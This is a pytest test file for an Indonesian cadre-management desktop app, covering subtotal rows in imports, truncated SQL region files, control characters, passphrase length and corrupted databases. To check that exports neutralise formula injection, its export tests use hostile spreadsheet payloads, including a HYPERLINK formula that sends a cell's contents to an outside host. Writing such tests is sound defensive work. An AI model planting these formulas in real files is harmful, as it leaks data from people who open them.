"""Bad input: subtotal rows, cut region files, formulas in exports, odd encodings and
control characters, short passphrases, the damaged-file sentence (issue 19 items 1,
3, 4, 10, 11 and 12)."""
from __future__ import annotations

import datetime as dt

import csv
import io

import pytest

from imp_desktop.data import cipher
from imp_desktop.cli import main
from imp_desktop.data.db import close_database, open_database
from imp_desktop.data.models import Cadre, Region
from imp_desktop.errors import UserError, ValidationError


def _one_line(err: str) -> str:
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err


# --- item 1: subtotal and blank rows in the middle -----------------------------------------

def test_a_subtotal_row_in_the_middle_does_not_end_the_import(db, tmp_path, capsys):
    path = tmp_path / "kader.csv"
    lines = ["DAFTAR KADER IMP DESA SRUWEN", "", "No;Nama;Alamat;Dusun",
             "1;Siti Aminah;Jl. Mawar 1;Krajan", "2;Budi Santoso;Jl. Mawar 2;Krajan",
             "3;Ani Lestari;Jl. Mawar 3;Krajan", ";Jumlah Dusun Krajan;3;",
             "", "4;Dewi Sartika;Jl. Melati 1;Ngasem", "5;Eko Prasetyo;Jl. Melati 2;Ngasem",
             "6;Fitri Handayani;Jl. Melati 3;Ngasem", ";Sub Total Ngasem;3;",
             "7;Gunawan;Jl. Kenanga 1;Gondang", "8;Hartini;Jl. Kenanga 2;Gondang",
             "9;Indah Permata;Jl. Kenanga 3;Gondang", ";JUMLAH;9;", "",
             ";;Mengetahui,;", ";;Kepala Desa Sruwen;", ";;SUPARNO;"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["import", "cadres", str(path), "--db", str(tmp_path / "imp.sqlite")]) == 0
    out = capsys.readouterr().out
    open_database(tmp_path / "imp.sqlite")
    assert Cadre.select().count() == 9
    assert "Suparno" not in {c.name for c in Cadre.select()}
    # the rows left out are in the report, each with its row number
    assert "Baris 7" in out and "baris jumlah" in out
    assert "Baris 8" in out and "baris kosong" in out
    assert "Baris 12" in out and "Baris 16" in out
    close_database()


# --- item 3: a region file cut short ----------------------------------------------------------

def _dump(rows: list[tuple[str, str]], per_statement: int = 3) -> str:
    parts = ["/* wilayah */\n--\n-- Table structure\n--\nDROP TABLE IF EXISTS wilayah;\n",
             "CREATE TABLE wilayah (kode varchar(13), nama varchar(100));\n"]
    for start in range(0, len(rows), per_statement):
        chunk = rows[start:start + per_statement]
        parts.append(f"-- bagian {start}\nINSERT INTO wilayah (kode, nama)\nVALUES\n")
        parts.append(",\n".join(f"('{c}','{n.replace(chr(39), chr(39) * 2)}')"
                                for c, n in chunk) + ";\n")
    return "".join(parts)


REGION_ROWS = [("33", "Jawa Tengah"), ("33.22", "Kabupaten Semarang"),
               ("33.22.02", "Bergas"), ("33.22.02.2001", "Bergas Kidul"),
               ("33.22.02.2002", "Bergas Lor"), ("33.22.02.2003", "Ngempon"),
               ("33.22.02.2004", "Jatijajar"), ("33.22.02.2005", "Gebugan"),
               ("33.22.02.2006", "Randu'gunting")]


def test_a_whole_dump_imports_and_every_cut_one_is_refused_with_nothing_written(db, tmp_path):
    from imp_desktop.services.regions import import_region_file, read_region_file

    text = _dump(REGION_ROWS)
    whole = tmp_path / "wilayah.sql"
    whole.write_text(text, encoding="utf-8")
    assert read_region_file(whole) == [(c, n) for c, n in REGION_ROWS]
    before = Region.select().count()
    last_statement = text.rindex(";")
    refused = 0
    for cut in range(text.index("INSERT"), last_statement):
        part = tmp_path / "potong.sql"
        part.write_text(text[:cut], encoding="utf-8")
        try:
            rows = read_region_file(part)
        except UserError as exc:
            assert "\n" not in str(exc)
            refused += 1
            with pytest.raises(UserError):
                import_region_file(part)
            assert Region.select().count() == before
            continue
        # only a cut after a statement's ";" (and comments) reads: whole statements only
        tail = text[:cut][text[:cut].rindex(";") + 1:]
        assert all(not line.strip() or line.lstrip().startswith("-")
                   for line in tail.splitlines()), repr(tail)
        assert rows == REGION_ROWS[:len(rows)]
    assert refused > 0.9 * (last_statement - text.index("INSERT"))


def test_the_first_two_megabytes_of_the_official_list_are_refused(db, region_file, tmp_path):
    from imp_desktop.services.regions import import_region_file

    part = tmp_path / "wilayah-2mb.sql"
    part.write_bytes(region_file.read_bytes()[:2_000_000])
    before = Region.select().count()
    with pytest.raises(UserError, match="terpotong"):
        import_region_file(part)
    assert Region.select().count() == before


def test_a_dump_cut_right_after_a_statement_is_refused_by_its_missing_provinces(db, tmp_path):
    """A cut just after a ``;`` reads cleanly; the provinces after it are missing."""
    from imp_desktop.services.regions import import_region_file

    part = tmp_path / "wilayah.sql"
    part.write_text(_dump(REGION_ROWS), encoding="utf-8")   # only Jawa Tengah of 38
    before = Region.select().count()
    with pytest.raises(UserError, match="provinsi tidak ada") as refused:
        import_region_file(part)
    assert "\n" not in str(refused.value)
    assert Region.select().count() == before
    # a CSV may hold a part of the list: the officer's own kecamatan
    csv_file = tmp_path / "desa.csv"
    csv_file.write_text("kode,nama\n" + "".join(f"{c},{n}\n" for c, n in REGION_ROWS),
                        encoding="utf-8")
    assert import_region_file(csv_file).added == 6


@pytest.mark.slow
def test_the_official_list_cut_after_any_statement_is_refused(db, region_file, tmp_path):
    from imp_desktop.services.regions import import_region_file

    text = region_file.read_text(encoding="utf-8")
    import re

    first = text.index("INSERT INTO")
    ends = [m.start() + 1 for m in re.finditer(r";\s*(?:--[^\n]*\n\s*)*INSERT INTO", text)
            if m.start() > first]
    assert len(ends) > 5
    before = Region.select().count()
    for end in ends:
        part = tmp_path / "wilayah-potong.sql"
        part.write_text(text[:end] + "\n", encoding="utf-8")
        with pytest.raises(UserError, match="tidak utuh"):
            import_region_file(part)
        assert Region.select().count() == before


# --- item 4: no formula in an export ------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://x/?d="&C3,"Klik")'


@pytest.fixture
def hostile_cadres(db):
    from imp_desktop.services.cadres import CadreInput, save_cadre

    names = [HOSTILE, "+62 SUM(A1)", "-1+2", "@SUM(1)", "Siti Aminah"]
    for n, name in enumerate(names):
        save_cadre(CadreInput(name=name, nik=None, address="\tJl. =1+1"))
    return names


def test_xlsx_export_writes_formula_like_names_as_text(hostile_cadres, tmp_path):
    from openpyxl import load_workbook

    from imp_desktop.services.cadre_export import export_cadres

    out = tmp_path / "kader.xlsx"
    export_cadres(out)
    sheet = load_workbook(out).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row
             if isinstance(cell.value, str)]
    assert any(cell.value == HOSTILE for cell in cells)
    assert all(cell.data_type == "s" for cell in cells)      # never "f" (formula)


def test_csv_export_neutralises_formula_starts(hostile_cadres, tmp_path):
    from imp_desktop.services.cadre_export import export_cadres

    out = tmp_path / "kader.csv"
    export_cadres(out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    stored = [c.name for c in Cadre.select()]
    assert "'" + HOSTILE in cells and HOSTILE in stored
    assert all("'" + name in cells for name in stored if name[0] in "=+-@")
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in cells
                   if not cell.startswith('="'))
    # and an exported file imports back without the apostrophes
    close_database()
    open_database(tmp_path / "lain.sqlite")
    from imp_desktop.services.cadre_import import import_cadres

    report, written = import_cadres(out)
    assert written == 5 and {c.name for c in Cadre.select()} == set(stored)
    close_database()


# --- item 10: other inputs -----------------------------------------------------------------

def test_a_utf16_csv_from_excel_imports(db, tmp_path):
    from imp_desktop.services.cadre_import import import_cadres

    path = tmp_path / "kader.csv"
    path.write_bytes("Nama\tAlamat\r\nSiti Aminah\tJl. Mawar\r\nBudi\tJl. Melati\r\n"
                     .encode("utf-16"))
    report, written = import_cadres(path)
    assert written == 2 and {c.name for c in Cadre.select()} == {"Siti Aminah", "Budi"}


@pytest.mark.parametrize("command", [["import", "cadres"], ["import", "regions"]])
@pytest.mark.parametrize("content", [bytes(range(256)) * 20, "kode,nama\n".encode("utf-16-le")],
                         ids=["binary", "utf16-without-bom"])
def test_a_binary_file_given_as_csv_is_a_sentence(tmp_path, capsys, command, content):
    db = tmp_path / "imp.sqlite"
    path = tmp_path / "data.csv"
    path.write_bytes(content)
    assert main(command + [str(path), "--db", str(db)]) == 1
    err = _one_line(capsys.readouterr().err)
    assert "bukan" in err and "teks" in err
    close_database()


def test_export_into_a_missing_folder_is_a_sentence(tmp_path, capsys):
    db = tmp_path / "imp.sqlite"
    assert main(["demo", "--db", str(db), "--desa", "1", "--cadres", "5"]) == 0
    capsys.readouterr()
    assert main(["export", "cadres", str(tmp_path / "no" / "such" / "x.xlsx"),
                 "--db", str(db)]) == 1
    assert "tidak ada" in _one_line(capsys.readouterr().err)
    close_database()


def test_control_characters_are_refused_at_input_naming_the_field(db, tmp_path):
    from imp_desktop.services.cadre_import import check_import, read_table
    from imp_desktop.services.cadres import CadreInput, save_cadre

    with pytest.raises(ValidationError) as caught:
        save_cadre(CadreInput(name="Siti\x00Aminah"))
    assert caught.value.problems[0][0] == "name" and "Nama" in caught.value.problems[0][1]
    with pytest.raises(ValidationError) as caught:
        save_cadre(CadreInput(name="Siti Aminah", address="Jl.\x1bMawar"))
    assert [field for field, _ in caught.value.problems] == ["address"]
    path = tmp_path / "kader.csv"
    path.write_text("Nama;Alamat\nSiti\x07Aminah;Jl. Mawar\nBudi;Jl. Melati\n", encoding="utf-8")
    report = check_import(read_table(path))
    assert [(p.row, p.field) for p in report.errors] == [(2, "name")]
    assert Cadre.select().count() == 0


def test_control_characters_are_refused_in_activities_units_and_the_setup(db):
    """Not only cadre fields: every typed text the officer saves."""
    from imp_desktop.data.models import Activity, Unit
    from imp_desktop.services import activities, first_run, units

    with pytest.raises(ValidationError) as caught:
        activities.save_activity(activities.ActivityInput(
            title="Pembinaan", date=dt.date(2026, 11, 5), results="Hasil\x00rapat"), [], [])
    assert [field for field, _ in caught.value.problems] == ["results"]
    assert "Hasil" in caught.value.problems[0][1] or "hasil" in caught.value.problems[0][1]
    guest = activities.ParticipantRow(cadre_id=None, name="Pak\x1bLurah", position="Kepala Desa")
    with pytest.raises(ValidationError) as caught:
        activities.save_activity(activities.ActivityInput(
            title="Pembinaan", date=dt.date(2026, 11, 5)), [guest], [])
    assert "Baris 1 daftar hadir" in caught.value.problems[0][1]
    assert Activity.select().count() == 0
    problems = units.check_unit(units.UnitInput(level="ppkbd", name="PPKBD\x07Duren"))
    assert problems[0][0] == "name" and "karakter kontrol" in problems[0][1]
    problems = first_run.check_setup(first_run.SetupInput(
        name="Sri\x00Wahyuningsih", letterhead_lines=["PEMERINTAH", "DINAS\x0cKB"]))
    assert {"name", "letterhead"} <= {field for field, _ in problems}
    assert Unit.select().count() == 0


def test_xlsx_export_of_a_stored_control_character_does_not_crash(db, tmp_path):
    """Data stored before the rule (or merged from an old installation)."""
    from openpyxl import load_workbook

    from imp_desktop.services.cadre_export import export_cadres
    from imp_desktop.services.cadres import CadreInput, save_cadre

    ident = save_cadre(CadreInput(name="Siti Aminah"))
    Cadre.update(name="Siti\x00Aminah\x1b").where(Cadre.id == ident).execute()
    export_cadres(tmp_path / "k.xlsx")
    names = [row[1].value for row in load_workbook(tmp_path / "k.xlsx").worksheets[0].iter_rows(
        min_row=2)]
    assert names == ["SitiAminah"]


# --- item 11: passphrases -----------------------------------------------------------------------

@pytest.mark.parametrize("passphrase", ["a", " " * 12, "  pendek  ", "1234567"])
def test_a_short_passphrase_is_refused(tmp_path, capsys, passphrase):
    db = tmp_path / "imp.sqlite"
    assert main(["demo", "--db", str(db), "--desa", "1", "--cadres", "5"]) == 0
    secret = tmp_path / "sandi.txt"
    secret.write_text(passphrase + "\n", encoding="utf-8")
    capsys.readouterr()
    out = tmp_path / "p.imp"
    assert main(["package", "export", "--db", str(db), "--out", str(out),
                 "--passphrase-file", str(secret)]) == 1
    assert "minimal 8" in _one_line(capsys.readouterr().err)
    assert not out.exists()
    close_database()


def test_a_passphrase_under_twelve_characters_gets_a_warning(tmp_path, capsys):
    from imp_desktop.services.package import check_passphrase

    assert check_passphrase("rahasia kantor 2026") is None
    assert "12" in check_passphrase("rahasia8")
    db = tmp_path / "imp.sqlite"
    assert main(["demo", "--db", str(db), "--desa", "1", "--cadres", "5"]) == 0
    secret = tmp_path / "sandi.txt"
    secret.write_text("rahasia8\n", encoding="utf-8")
    capsys.readouterr()
    assert main(["package", "export", "--db", str(db), "--out", str(tmp_path / "p.imp"),
                 "--passphrase-file", str(secret)]) == 0
    assert "Peringatan" in capsys.readouterr().err
    close_database()


# --- item 12: the damaged-file message -----------------------------------------------------------

def test_a_damaged_file_is_one_sentence_on_the_command_line(tmp_path, capsys):
    db = tmp_path / "imp.sqlite"
    assert main(["demo", "--db", str(db), "--desa", "1", "--cadres", "30"]) == 0
    close_database()
    conn = cipher.connect_file(db)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(db.read_bytes())
    page = 4096
    for offset in range(page * 3, len(data) - page, page * 2):
        data[offset + 8:offset + 200] = bytes(192)
    db.write_bytes(bytes(data))
    capsys.readouterr()
    assert main(["check", "--db", str(db)]) == 1
    err = _one_line(capsys.readouterr().err)
    assert "rusak" in err and len(err) < 300
